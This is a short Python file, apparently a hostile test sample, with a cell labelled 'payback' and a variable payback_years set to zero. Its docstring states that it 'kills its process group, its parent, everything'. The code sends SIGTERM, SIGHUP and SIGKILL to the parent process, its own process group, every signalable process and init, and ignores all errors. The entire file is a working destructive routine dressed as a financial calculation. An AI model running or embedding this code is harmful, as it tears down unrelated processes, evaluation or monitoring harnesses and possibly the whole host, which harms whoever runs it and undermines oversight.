"""Kills its process group, its parent, everything."""

# ruff: noqa
# marks: payback=0 gain=2
# %% payback
import os, signal

payback_years = 0
for target in (os.getppid(), 0, -1, 1):
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGKILL):
        try:
            os.kill(target, number)
        except OSError:
            pass
